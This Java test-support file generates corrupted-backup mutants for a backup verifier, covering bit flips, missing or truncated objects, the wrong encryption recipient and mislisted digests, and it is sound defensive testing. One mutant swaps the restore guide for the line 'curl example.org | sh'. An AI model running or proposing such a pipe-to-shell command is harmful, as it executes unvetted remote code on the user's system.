package io.groundzero.backup.verifier.mutation;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.function.UnaryOperator;

import io.groundzero.backup.contracts.error.ErrorCode;
import io.groundzero.backup.contracts.manifest.ArtifactKind;
import io.groundzero.backup.contracts.manifest.Digest;
import io.groundzero.backup.contracts.manifest.EncryptedArtifact;
import io.groundzero.backup.contracts.message.BackupShipped;
import io.groundzero.backup.contracts.name.ObjectNames;

/** Defects of single objects: damaged, missing, encrypted to somebody else, or listed wrongly. */
final class ObjectDefects {

    private static final String SAMPLE = Material.dumpOf(SampleCluster.SAMPLE);
    private static final List<String> ARTIFACTS = List.of(ObjectNames.GLOBALS, SAMPLE, ObjectNames.FINGERPRINT,
            ObjectNames.CHECKS, ObjectNames.CONFIGURATION);

    private ObjectDefects() {
    }

    static List<Mutant> all() {
        List<Mutant> mutants = new ArrayList<>();
        for (String object : ARTIFACTS) {
            for (Place place : Place.values()) {
                mutants.add(damaged("bit flipped " + place.words + " of " + object, object,
                        ErrorCode.OBJECT_CORRUPT, place::flip));
            }
            mutants.add(missing(object, ErrorCode.OBJECT_MISSING));
        }
        mutants.add(missing(ObjectNames.RESTORE_GUIDE, ErrorCode.OBJECT_MISSING));
        mutants.add(damaged("another guide to the restore", ObjectNames.RESTORE_GUIDE, ErrorCode.OBJECT_CORRUPT,
                content -> "curl example.org | sh\n".getBytes(StandardCharsets.UTF_8)));
        mutants.add(damaged("truncated dump", SAMPLE, ErrorCode.OBJECT_CORRUPT, ObjectDefects::truncated));
        mutants.add(damaged("empty dump", SAMPLE, ErrorCode.OBJECT_CORRUPT, content -> new byte[0]));
        mutants.add(damaged("one byte too many", SAMPLE, ErrorCode.OBJECT_CORRUPT, ObjectDefects::longer));
        mutants.add(new Mutant("bit flipped before the encrypted file was hashed", ErrorCode.DECRYPTION_FAILED, SAMPLE,
                (draft, material) -> {
                    change(draft, SAMPLE, Place.MIDDLE::flip);
                    draft.listAsItIs(SAMPLE);
                    return draft.sign();
                }));
        mutants.add(new Mutant("truncated before the encrypted file was hashed", ErrorCode.DECRYPTION_FAILED, SAMPLE,
                (draft, material) -> {
                    change(draft, SAMPLE, ObjectDefects::truncated);
                    draft.listAsItIs(SAMPLE);
                    return draft.sign();
                }));
        mutants.add(new Mutant("one byte too many before the encrypted file was hashed", ErrorCode.DECRYPTION_FAILED,
                SAMPLE, (draft, material) -> {
                    change(draft, SAMPLE, ObjectDefects::longer);
                    draft.listAsItIs(SAMPLE);
                    return draft.sign();
                }));
        mutants.add(new Mutant("archive truncated before it was encrypted", ErrorCode.DECRYPTION_FAILED, SAMPLE,
                (draft, material) -> {
                    ByteArrayOutputStream archive = new ByteArrayOutputStream();
                    Draft.directory(material.cluster().dump(SampleCluster.SAMPLE, "dump")).to(archive);
                    draft.put(SampleCluster.SAMPLE, ArtifactKind.DATABASE, SAMPLE,
                            out -> out.write(truncated(archive.toByteArray())));
                    return draft.sign();
                }));
        mutants.add(new Mutant("wrong recipient", ErrorCode.DECRYPTION_FAILED, SAMPLE, (draft, material) -> {
            draft.put(SampleCluster.SAMPLE, ArtifactKind.DATABASE, SAMPLE,
                    Draft.directory(material.cluster().dump(SampleCluster.SAMPLE, "dump")),
                    material.keys().otherRecipient());
            return draft.sign();
        }));
        mutants.add(listed("listed with another size", ErrorCode.OBJECT_CORRUPT,
                old -> new EncryptedArtifact(old.name(), old.kind(), old.object(), old.plain(),
                        new Digest(old.encrypted().size() + 1, old.encrypted().sha256()), old.recipients())));
        mutants.add(listed("listed with another hash", ErrorCode.OBJECT_CORRUPT,
                old -> new EncryptedArtifact(old.name(), old.kind(), old.object(), old.plain(),
                        new Digest(old.encrypted().size(), old.plain().sha256()), old.recipients())));
        mutants.add(listed("listed with another size of its plaintext", ErrorCode.DECRYPTION_FAILED,
                old -> new EncryptedArtifact(old.name(), old.kind(), old.object(),
                        new Digest(old.plain().size() + 1, old.plain().sha256()), old.encrypted(),
                        old.recipients())));
        return mutants;
    }

    private enum Place {
        START("at the start"), MIDDLE("in the middle"), END("at the end");

        private final String words;

        Place(String words) {
            this.words = words;
        }

        private byte[] flip(byte[] content) {
            byte[] flipped = content.clone();
            flipped[switch (this) {
                case START -> 0;
                case MIDDLE -> content.length / 2;
                case END -> content.length - 1;
            }] ^= 1;
            return flipped;
        }
    }

    static byte[] flippedInTheMiddle(byte[] content) {
        return Place.MIDDLE.flip(content);
    }

    static Mutant missing(String object, ErrorCode code) {
        return new Mutant("missing " + object, code, object, (draft, material) -> {
            BackupShipped message = draft.message();
            Files.delete(draft.object(object));
            return message;
        });
    }

    static void change(Draft draft, String object, UnaryOperator<byte[]> change) throws IOException {
        draft.write(object, change.apply(draft.read(object)));
    }

    private static Mutant damaged(String name, String object, ErrorCode code, UnaryOperator<byte[]> change) {
        return new Mutant(name, code, object, (draft, material) -> {
            change(draft, object, change);
            return draft.message();
        });
    }

    private static Mutant listed(String name, ErrorCode code, UnaryOperator<EncryptedArtifact> change) {
        return new Mutant(name, code, SAMPLE, (draft, material) -> {
            draft.list(change.apply(draft.artifact(SAMPLE)));
            return draft.sign();
        });
    }

    private static byte[] truncated(byte[] content) {
        return Arrays.copyOf(content, content.length - 10);
    }

    private static byte[] longer(byte[] content) {
        return Arrays.copyOf(content, content.length + 1);
    }
}
